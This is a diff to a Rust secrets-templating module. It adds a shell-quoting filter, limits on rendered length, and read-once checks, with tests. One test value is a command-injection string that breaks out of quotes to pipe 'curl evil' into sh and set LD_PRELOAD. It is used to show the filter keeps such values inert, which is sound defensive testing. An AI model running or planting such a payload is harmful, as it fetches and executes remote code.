@@ -6,7 +6,7 @@
 //! tag      := "{{" ws expr (ws "|" ws filter)* ws "}}"
 //! expr     := ref | "'" [^']* "'" | '"' [^"]* '"'
 //! ref      := ["vault://"] scope "/" key          (see the scope module)
-//! filter   := "json" | "base64" | "urlencode" | "trim"
+//! filter   := "json" | "base64" | "urlencode" | "shell" | "trim"
 //! ```
 //!
 //! Text outside tags is copied as it is; a literal `{{` is written
@@ -59,12 +59,16 @@ pub enum Filter {
     Base64,
     /// Percent-encoded: everything but `A-Z a-z 0-9 - . _ ~`.
     UrlEncode,
+    /// One POSIX shell word: single-quoted, each `'` as `'\''`, so a
+    /// file a shell sources (`. app.env`) gets the value as data, never as
+    /// code or further lines.
+    Shell,
     /// Leading and trailing ASCII white space removed.
     Trim,
 }
 
 impl Filter {
-    const NAMES: &'static str = "json, base64, urlencode, trim";
+    const NAMES: &'static str = "json, base64, urlencode, shell, trim";
 
     fn parse(name: &str) -> Option<Filter> {
         Some(match name {
@@ -72,6 +76,7 @@ impl Filter {
             "base64" => Filter::Base64,
             "urlencode" => Filter::UrlEncode,
             "trim" => Filter::Trim,
+            "shell" => Filter::Shell,
             _ => return None,
         })
     }
@@ -83,6 +88,20 @@ impl Filter {
             Filter::Base64 => "base64",
             Filter::UrlEncode => "urlencode",
             Filter::Trim => "trim",
+            Filter::Shell => "shell",
+        }
+    }
+
+    /// How long `input` filtered is, computed before anything is
+    /// allocated (saturating: a length past any limit stays past it).
+    fn output_len(self, input: &[u8]) -> usize {
+        let sum = |f: fn(u8) -> usize| input.iter().fold(0usize, |n, &b| n.saturating_add(f(b)));
+        match self {
+            Filter::Trim => input.trim_ascii().len(),
+            Filter::Base64 => base64::encoded_len(input.len(), true).unwrap_or(usize::MAX),
+            Filter::UrlEncode => sum(|b| if url_safe(b) { 1 } else { 3 }),
+            Filter::Json => sum(json_len),
+            Filter::Shell => sum(|b| if b == b'\'' { 4 } else { 1 }).saturating_add(2),
         }
     }
 
@@ -90,11 +109,27 @@ impl Filter {
     fn apply(self, input: &[u8]) -> Result<SensitiveBytes, NotText> {
         match self {
             Filter::Trim => Ok(SensitiveBytes::from_slice(input.trim_ascii())),
+            Filter::Shell => {
+                let mut out = SensitiveBytes::zeroed(self.output_len(input));
+                let buf = out.expose_mut();
+                buf[0] = b'\'';
+                let mut i = 1;
+                for &b in input {
+                    if b == b'\'' {
+                        buf[i..i + 4].copy_from_slice(b"'\\''");
+                        i += 4;
+                    } else {
+                        buf[i] = b;
+                        i += 1;
+                    }
+                }
+                buf[i] = b'\'';
+                Ok(out)
+            }
             Filter::Base64 => {
                 use base64::Engine as _;
                 let engine = base64::engine::general_purpose::STANDARD;
-                let mut out =
-                    SensitiveBytes::zeroed(base64::encoded_len(input.len(), true).unwrap_or(0));
+                let mut out = SensitiveBytes::zeroed(self.output_len(input));
                 let n = engine
                     .encode_slice(input, out.expose_mut())
                     .expect("the buffer has the encoded length");
@@ -102,9 +137,8 @@ impl Filter {
                 Ok(out)
             }
             Filter::UrlEncode => {
-                let keep =
-                    |b: u8| b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~');
-                let len = input.iter().map(|&b| if keep(b) { 1 } else { 3 }).sum();
+                let keep = url_safe;
+                let len = self.output_len(input);
                 let mut out = SensitiveBytes::zeroed(len);
                 let buf = out.expose_mut();
                 let mut i = 0;
@@ -127,14 +161,8 @@ impl Filter {
                 if std::str::from_utf8(input).is_err() {
                     return Err(NotText);
                 }
-                let escaped = |b: u8| -> usize {
-                    match b {
-                        b'"' | b'\\' | b'\n' | b'\r' | b'\t' | 0x08 | 0x0c => 2,
-                        0..=0x1f | 0x7f => 6,
-                        _ => 1,
-                    }
-                };
-                let len = input.iter().map(|&b| escaped(b)).sum();
+                let escaped = json_len;
+                let len = self.output_len(input);
                 let mut out = SensitiveBytes::zeroed(len);
                 let buf = out.expose_mut();
                 let mut i = 0;
@@ -178,6 +206,20 @@ impl Filter {
 }
 
 const HEX: &[u8; 16] = b"0123456789ABCDEF";
+
+/// Whether `urlencode` keeps `b` as it is (RFC 3986's unreserved).
+fn url_safe(b: u8) -> bool {
+    b.is_ascii_alphanumeric() || matches!(b, b'-' | b'.' | b'_' | b'~')
+}
+
+/// How many bytes `json` writes for `b`.
+fn json_len(b: u8) -> usize {
+    match b {
+        b'"' | b'\\' | b'\n' | b'\r' | b'\t' | 0x08 | 0x0c => 2,
+        0..=0x1f | 0x7f => 6,
+        _ => 1,
+    }
+}
 
 /// A value a filter needs as text is not UTF-8.
 #[derive(Debug)]
@@ -311,8 +353,14 @@ impl Template {
         let src = self.source.expose();
         // Each tag's output, filtered; text parts are borrowed.
         let mut pieces: Vec<Option<SensitiveBytes>> = Vec::with_capacity(self.parts.len());
+        // The length so far, checked before each allocation, so no chain
+        // of filters or repeated tag allocates past `max`.
+        let mut total = 0usize;
         for part in &self.parts {
             let Part::Tag { expr, filters } = part else {
+                if let Part::Text(range) = part {
+                    total = total.saturating_add(range.len());
+                }
                 pieces.push(None);
                 continue;
             };
@@ -324,6 +372,9 @@ impl Template {
                 Expr::Literal(range) => (SensitiveBytes::from_slice(&src[range.clone()]), None),
             };
             for f in filters {
+                if total.saturating_add(f.output_len(value.expose())) > max {
+                    return Err(RenderError::TooLarge { max });
+                }
                 // A literal is a slice of the (UTF-8) source, and every
                 // filter turns text into text: only a value can fail here.
                 value = f
@@ -332,6 +383,10 @@ impl Template {
                         vault_ref: r.cloned().expect("a literal is text"),
                         filter: f.name(),
                     })?;
+            }
+            total = total.saturating_add(value.len());
+            if total > max {
+                return Err(RenderError::TooLarge { max });
             }
             pieces.push(Some(value));
         }
@@ -392,6 +447,11 @@ impl From<StoreError> for RefReadError {
 /// The stored template `name`; `Ok(None)` if there is none.
 pub fn load(store: &dyn SecretStore, name: &SecretKey) -> Result<Option<Template>, LoadError> {
     let r = template_ref(name);
+    // Stored read-once by hand (`sealfs set --once`): loading it would
+    // consume it at the first `ls`.
+    if store.entry(&r)?.is_some_and(|e| e.once) {
+        return Err(LoadError::ReadOnce { name: name.clone() });
+    }
     match store.read(&r) {
         Ok((source, _)) => Template::parse(source)
             .map(Some)
@@ -411,6 +471,13 @@ pub enum LoadError {
     /// The store's error.
     #[error(transparent)]
     Store(#[from] StoreError),
+    /// What is stored is read-once (stored by something else than
+    /// `sealfs template set`).
+    #[error("template {name} is stored read-once, which a template cannot be")]
+    ReadOnce {
+        /// The template's name.
+        name: SecretKey,
+    },
     /// What is stored does not parse (stored by something else than
     /// `sealfs template set`).
     #[error("template {name} does not parse: {source}")]
@@ -445,7 +512,13 @@ pub fn render_from(
             if store.entry(r)?.is_some_and(|e| e.once) {
                 return Err(RefReadError::ReadOnce);
             }
-            Ok(store.read(r)?.0)
+            let (value, consumed) = store.read(r)?;
+            if consumed {
+                // Made read-once between the two calls: consumed, so said,
+                // never served.
+                return Err(RefReadError::ReadOnce);
+            }
+            Ok(value)
         },
         max,
     )
@@ -557,9 +630,14 @@ pub fn from_env_file(text: &[u8], scope: &VaultScope) -> Result<EnvImport, EnvFi
             return fail("this variable (or one differing only in case) is set twice");
         }
         let r = VaultRef::new(scope.clone(), key);
-        let q = quote.map(String::from).unwrap_or_default();
         template.push_str(&escape_text(&body[..lead + export]));
-        template.push_str(&format!("{name}={q}{{{{ {r} }}}}{q}"));
+        match quote {
+            // The shell filter quotes it the same way, and keeps a value
+            // written later with a `'` in it one word.
+            Some('\'') => template.push_str(&format!("{name}={{{{ {r} | shell }}}}")),
+            Some(q) => template.push_str(&format!("{name}={q}{{{{ {r} }}}}{q}")),
+            None => template.push_str(&format!("{name}={{{{ {r} }}}}")),
+        }
         template.push_str(&escape_text(suffix));
         template.push_str(ending);
         vars.push((
@@ -766,7 +844,7 @@ mod tests {
             ("{{ }}", "line 1, column 4: expected a ref, e.g. `{{ global/db_password }}`"),
             ("x\n  {{ sk-live-SECRET }}", "line 2, column 6: invalid ref: expected `<scope>/<key>`, e.g. `global/openai_api_key`"),
             ("{{ global/Bad }}", "line 1, column 4: invalid ref: the key: only a-z 0-9 . _ - are allowed"),
-            ("é {{ global/k | upper }}", "line 1, column 17: unknown filter (there are: json, base64, urlencode, trim)"),
+            ("é {{ global/k | upper }}", "line 1, column 17: unknown filter (there are: json, base64, urlencode, shell, trim)"),
             ("{{ global/k json }}", "line 1, column 13: expected `|` and a filter, or `}}`"),
             ("{{ global/k |\n }}", "line 1, column 14: a tag must end on its own line with `}}`"),
             ("{{ 'open }}", "line 1, column 4: the quoted text is never closed"),
@@ -833,6 +911,46 @@ mod tests {
     fn escaped_text_renders_as_it_was() {
         let text = "a {{ b }} {{{ c";
         assert_eq!(render(&escape_text(text), &[]).unwrap(), text);
+    }
+
+    #[test]
+    fn the_shell_filter_makes_one_word_of_any_value() {
+        let out = render(
+            "A={{ global/k | shell }}\nB={{ global/e | shell }}\n",
+            &[
+                ("global/k", b"x'; curl evil|sh; '\nLD_PRELOAD=/x"),
+                ("global/e", b""),
+            ],
+        )
+        .unwrap();
+        assert_eq!(
+            out,
+            "A='x'\\''; curl evil|sh; '\\''\nLD_PRELOAD=/x'\nB=''\n"
+        );
+        // The shell agrees: one word, the value back byte for byte.
+        let got = std::process::Command::new("sh")
+            .args(["-c", &format!("{out}printf %s \"$A\"")])
+            .output()
+            .unwrap();
+        assert_eq!(got.stdout, b"x'; curl evil|sh; '\nLD_PRELOAD=/x");
+    }
+
+    #[test]
+    fn a_chain_of_filters_or_tags_is_stopped_before_it_allocates_past_the_limit() {
+        let many = "{{ global/k | urlencode | urlencode | urlencode | urlencode | urlencode \
+                    | urlencode | urlencode | urlencode | urlencode | urlencode | urlencode \
+                    | urlencode | urlencode | urlencode | urlencode | urlencode | urlencode \
+                    | urlencode | urlencode | urlencode | urlencode | urlencode | urlencode \
+                    | urlencode | urlencode | urlencode | urlencode | urlencode | urlencode \
+                    | base64 | base64 | base64 | base64 | base64 | base64 | base64 | base64 }}";
+        let t = Template::parse(SensitiveBytes::from_slice(many.as_bytes())).unwrap();
+        let value = || Ok::<_, std::io::Error>(SensitiveBytes::from_slice(&[b'%'; 4096]));
+        let e = t.render(|_: &VaultRef| value(), 1 << 20).unwrap_err();
+        assert!(matches!(e, RenderError::TooLarge { .. }), "{e}");
+        let repeated = "{{ global/k | json }}".repeat(3000);
+        let t = Template::parse(SensitiveBytes::from_slice(repeated.as_bytes())).unwrap();
+        let e = t.render(|_: &VaultRef| value(), 1 << 20).unwrap_err();
+        assert!(matches!(e, RenderError::TooLarge { .. }), "{e}");
     }
 
     #[test]
